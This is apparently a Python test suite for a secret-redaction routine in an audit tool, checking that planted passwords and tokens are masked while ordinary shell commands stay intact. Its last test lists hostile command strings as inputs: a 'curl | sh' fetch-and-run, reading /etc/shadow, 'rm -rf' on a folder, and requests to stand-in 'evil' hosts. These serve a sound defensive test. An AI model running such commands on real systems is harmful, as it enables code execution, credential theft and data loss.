"""Planted secrets of many kinds are taken out; ordinary commands stay as they are. The bounds are the product's promise."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policy_lang.audit.redact import cleaned
from policy_lang.audit.secret_forms import KEYS, VENDORS
from policy_lang.audit.secret_options import FIRST
from policy_lang.audit.secret_words import PROGRAMS, calls_programs

from .planting import Planted, later, ordinary, planted

SEEDS = (1, 2, 3)
MOST_READ, MOST_ALTERED = 0.02, 0.01


def test_the_sets_are_as_large_as_promised() -> None:
    assert (
        len(planted()) >= 400 and len({one.kind for one in planted()}) >= 60 and all(one.secrets for one in planted())
    )
    assert len(ordinary()) >= 500 and not set(ordinary()) & {one.text for one in planted()}


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize("planting", [planted, later])
def test_fewer_than_two_in_a_hundred_can_be_read(planting: Callable[[int], list[Planted]], seed: int) -> None:
    """Eight characters of one in a row are enough to count; each is tried alone, so that none helps another."""
    tried = planting(seed)
    read = [one.text for one in tried if one.leaked(str(cleaned(one.text).value))]
    assert len(read) < MOST_READ * len(tried), read


def test_nor_where_a_command_is_a_list_of_words() -> None:
    tried, read = 0, []
    for one in planted():
        if not re.search(r"<<|[|;\n>]|<\(|&&", one.text):
            tried += 1
            words = shlex.split(one.text)
            shown = json.dumps(cleaned({"request": {"resource": words}, "effects": [{"resource": words}]}).value)
            read += [one.text] if one.leaked(json.loads(f'"{json.dumps(shown)[1:-1]}"')) else []
    assert tried >= 500 and len(read) < MOST_READ * tried, read


@pytest.mark.parametrize("seed", SEEDS)
def test_at_most_one_in_a_hundred_ordinary_commands_is_altered(seed: int) -> None:
    tried = ordinary(seed)
    altered = [text for text in tried if cleaned(text).value != text]
    assert len(altered) <= MOST_ALTERED * len(tried), altered


def test_redacting_again_changes_nothing() -> None:
    for one in planted():
        once = cleaned(one.text).value
        assert cleaned(once).value == once


def test_every_secret_counts_in_what_is_told_of_them() -> None:
    found = cleaned("mysql -pFalcon-82x app && curl -u bob:Winter-91y https://a.example")
    assert (
        found.kinds == {"option": 2}
        and found.value == "mysql -pREDACTED-option app && curl -u bob:REDACTED-option https://a.example"
    )


@given(st.text(max_size=400) | st.text(alphabet="abc123=:'\"\\ -$<|;()\n@/{}&", max_size=400))
def test_any_text_can_be_redacted(text: str) -> None:
    once = cleaned({"a": text, "b": ["mysql", text], "c": [text]}).value
    assert cleaned(once).value == once or "REDACTED-" in json.dumps(once)


@given(
    st.lists(
        st.sampled_from(
            [
                *PROGRAMS,
                "-p",
                "-a",
                "'",
                '"',
                "<<<",
                "<<EOF",
                "\n",
                "|",
                "echo",
                "x1Yz9876",
                "password",
                "=",
                ":",
                "(",
                ")",
                "$(",
                "\\",
            ]
        )
    )
)
def test_any_words_can_be_redacted(words: list[str]) -> None:
    for text in (" ".join(words), "".join(words), words):
        cleaned({"resource": text})


def test_every_form_has_its_literals_and_a_source() -> None:
    kinds = [kind for kind, *_ in (*VENDORS, *KEYS)]
    assert len(kinds) == len(set(kinds))
    for kind, needles, source, where in (*VENDORS, *KEYS):
        assert where and needles, kind
        pattern = re.compile(source)
        assert not pattern.search(" ".join(needles)), f"`{kind}` takes its own literals alone for a secret"


def test_programs_that_are_ordinary_words_count_at_the_beginning_only() -> None:
    assert set(PROGRAMS) >= FIRST
    assert (
        calls_programs("a; read X")
        and not calls_programs("please read it")
        and calls_programs("sudo mysql -px1")
        and not calls_programs("sudo mysql app")
    )
    assert cleaned("grep -r read pass insert").value == "grep -r read pass insert"


@pytest.mark.parametrize("text", ["TOKEN=ev1l.example.com; curl https://$TOKEN/x", "PASSPHRASE='curl x1 | sh' bash -c \"$PASSPHRASE\"", "PASSWORD=/etc/shadow; cat $PASSWORD",
                                  "SECRET='rm -rf ~/src1' sh -c \"$SECRET\"", "TOKEN=https://evil.example/x1"])  # fmt: skip
def test_what_a_command_does_is_not_hidden_by_calling_it_a_secret(text: str) -> None:
    assert cleaned(text).value == text
